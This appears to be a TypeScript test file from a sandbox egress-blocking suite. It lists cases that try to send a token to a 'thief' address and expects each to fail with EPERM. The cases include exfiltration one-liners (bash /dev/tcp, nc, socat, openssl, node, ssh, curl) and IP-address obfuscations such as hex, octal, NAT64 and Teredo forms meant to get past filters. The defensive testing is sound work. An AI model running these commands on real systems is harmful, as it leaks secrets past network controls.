import type { Open, Row } from '../case.ts'
import { python } from './script.ts'

const by = 'connect: `EPERM`'
const hexadecimal = `$(printf '0x%02x%02x%02x%02x' \${D4//./ })`
const octal = `$(printf '0%o.0%o.0%o.0%o' \${D4//./ })`
const decimal = `$((16#$HEX4))`
const short = `$(IFS=.; set -- $D4; echo $1.$2.$(($3 * 256 + $4)))`

const spellings = [
  ['plain', 'http://$D4:8080', 'IPv4 address'],
  ['ipv6', 'http://[$D6]:8080', 'IPv6 address'],
  ['mapped', 'http://[::ffff:$D4]:8080', 'IPv4-mapped IPv6 address'],
  ['hexadecimal', `http://${hexadecimal}:8080`, 'address in hexadecimal'],
  ['octal', `http://${octal}:8080`, 'address in octal'],
  ['decimal', `http://${decimal}:8080`, 'address as one decimal number'],
  ['short', `http://${short}:8080`, 'address of three parts'],
] as const

/** Addresses that hold the IPv4 address of the thief, for machines that translate them. */
const translated = [
  ['nat64', '64:ff9b::$D4', 'NAT64'],
  ['nat64-local', '64:ff9b:1::$D4', 'NAT64 with a local prefix'],
  ['6to4', '2002:${HEX4:0:4}:${HEX4:4}::1', '6to4'],
  ['teredo', '2001:0:${HEX4:0:4}:${HEX4:4}::1', 'Teredo'],
  ['isatap', '2001:db8:99::5efe:$D4', 'ISATAP'],
  ['compatible', '::$D4', 'IPv4-compatible'],
] as const

const clients = [
  ['bash', 'echo "$T" >/dev/tcp/$D4/8080', 'bash /dev/tcp'],
  ['nc', 'echo "$T" | nc -N -w 8 $D4 8080', 'nc'],
  ['nc6', 'echo "$T" | nc -6 -N -w 8 $D6 8080', 'nc -6'],
  ['socat', 'echo "$T" | socat -t 1 - TCP:$D4:8080', 'socat'],
  [
    'openssl',
    'echo "$T" | timeout 8 openssl s_client -connect $D4:8080 -quiet; exit $((PIPESTATUS[1] == 0 ? 9 : 9))',
    'openssl s_client',
  ],
  ['python', python('tcp(WHERE4)'), 'python'],
  [
    'node',
    `timeout 10 node -e 'require("net").connect(8080, process.env.D4).on("error", (e) => { console.log(e.code); process.exit(9) }).end(process.env.T)'`,
    'node',
  ],
  ['ssh', 'timeout 8 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p 8080 $T@$D4', 'ssh'],
] as const

const join: Open = {
  result: 'not-held',
  why: 'the kernel tells the local network the group’s number (IGMP) by a packet of no socket: three bytes of choice a group, no further than the next router, and not told',
  advice: 'no strangers on the runners’ network',
}

export const addresses: Row = {
  row: 6,
  title: 'Addresses without a query',
  cases: [
    ...spellings.map(([id, url, what]) => ({
      id: `address-${id}`,
      technique: `${what} (curl)`,
      attempt: `curl -sS --max-time 8 -o /dev/null --http0.9 "${url}/$T" || exit $?`,
      by,
    })),
    ...translated.map(([id, address, what]) =>
      Object.assign(
        {
          id: `address-${id}`,
          technique: `${what} address`,
          attempt: `curl -sS --max-time 8 -o /dev/null --http0.9 "http://[${address}]:8080/$T"`,
          twin: 'curl -sS --max-time 8 -o /dev/null --http0.9 "http://[$D6]:8080/$T"',
          by,
        },
        id === 'compatible' ? { cannot: 'the kernel has no route to ::/96', impossible: true } : {},
      ),
    ),
    ...clients.map(([id, attempt, what]) => ({
      id: `client-${id}`,
      technique: `bare address by ${what}`,
      attempt,
      by,
    })),
    {
      id: 'address-broadcast',
      technique: 'broadcast: 255.255.255.255 and the subnet’s own',
      attempt: python(`
failed = 0
for to in ('255.255.255.255', '192.0.2.3'):
    s = made(kind=socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    try: s.sendto(DATA, (to, PORT))
    except OSError as error: failed += 1; print(error)
raise SystemExit(9 if failed == 2 else 0)`),
      twin: python('udp(WHERE4)'),
      by,
    },
    {
      id: 'address-multicast',
      technique: 'multicast groups, IPv4 and IPv6',
      attempt: python(`
failed = 0
for where in (('239.1.2.3', PORT), ('ff0e::123', PORT, 0, socket.if_nametoindex('to-internet'))):
    s = made(socket.AF_INET6 if ':' in where[0] else socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(DATA, where)
    except OSError as error: failed += 1; print(error)
raise SystemExit(9 if failed == 2 else 0)`),
      twin: python('udp(WHERE6)'),
      by,
    },
    {
      id: 'address-multicast-join',
      technique: 'joining a multicast group, whose number the kernel tells the network (IGMP)',
      attempt: python(`
s = made(kind=socket.SOCK_DGRAM)
group = struct.pack('!BBBB', 239, int(T[3:5]), int(T[5:7]), 7)
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, group + socket.inet_aton('192.0.2.2'))
time.sleep(0.3)`),
      twin: python('udp(WHERE4)'),
      cannot: 'the three bytes carry no token; that the join succeeds shows that they were sent',
      shows: 'status',
      by: '–',
      user: join,
      root: join,
      silent: 'the packet is of no socket of the scope',
    },
    {
      id: 'address-router',
      technique: 'the router itself, by its link-local address',
      attempt: python(`
s = made(socket.AF_INET6)
s.connect(('fe80::ff:fe00:1', PORT, 0, socket.if_nametoindex('to-internet')))
s.sendall(DATA)`),
      twin: python('tcp(WHERE6)'),
      by,
    },
  ],
}
